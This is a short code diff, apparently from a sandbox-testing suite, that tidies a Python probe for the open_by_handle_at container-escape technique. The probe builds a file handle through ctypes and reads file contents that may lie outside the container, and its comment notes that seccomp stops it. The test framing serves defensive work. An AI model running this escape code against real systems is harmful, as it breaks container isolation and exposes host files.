@@ -4,8 +4,7 @@ stopped by: seccomp: name_to_handle_at, open_by_handle_at
 without walls: works for root
 """
 # %%
-import ctypes
-import os
+import ctypes, os
 
 libc = ctypes.CDLL(None, use_errno=True)
 handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 136)
@@ -16,4 +15,3 @@ descriptor = libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, os.O_RDON
 print(os.strerror(ctypes.get_errno()))
 if descriptor >= 0:
     print(os.pread(descriptor, 2000, 0))
-print("TRIED")
